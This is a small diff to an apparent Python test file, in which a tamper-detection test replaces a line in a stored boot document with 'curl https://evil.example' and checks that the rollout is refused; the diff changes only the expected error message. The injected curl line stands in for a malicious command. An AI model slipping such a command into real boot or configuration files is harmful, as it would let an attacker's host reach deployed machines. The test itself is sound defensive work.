@@ -169,7 +169,7 @@ def test_a_document_that_was_changed(models: FleetWorld) -> None:
     models.engine.documents.put("ecsauth-boot", content.replace("ulimit -c 0", "curl https://evil.example"))
     done = models.roll()
     assert (done.status, models.candidates) == (4, [])
-    assert "somebody has changed it" in done.err
+    assert "differs from the document of this ecsauth" in done.err
 
 
 def test_a_document_that_is_changed_meanwhile(models: FleetWorld) -> None:
